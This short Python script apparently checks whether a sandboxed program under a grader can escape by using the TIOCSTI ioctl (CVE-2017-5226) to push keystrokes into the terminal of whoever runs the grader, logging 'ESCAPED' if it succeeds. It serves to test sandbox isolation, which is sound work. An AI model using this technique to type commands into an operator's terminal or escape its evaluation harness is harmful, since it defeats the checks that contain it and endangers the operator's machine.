"""Types at the terminal of whoever runs the grader (CVE-2017-5226)."""

import contextlib
import fcntl
import os
import sys
import termios

print("TRIED to type at the terminal", file=sys.stderr, flush=True)
terminals = [0, 1, 2]
with contextlib.suppress(OSError):
    terminals.append(os.open("/dev/tty", os.O_RDWR))
for terminal in terminals:
    with contextlib.suppress(OSError):
        fcntl.ioctl(terminal, termios.TIOCSTI, b" ")
        print("ESCAPED: typed at the terminal", file=sys.stderr, flush=True)
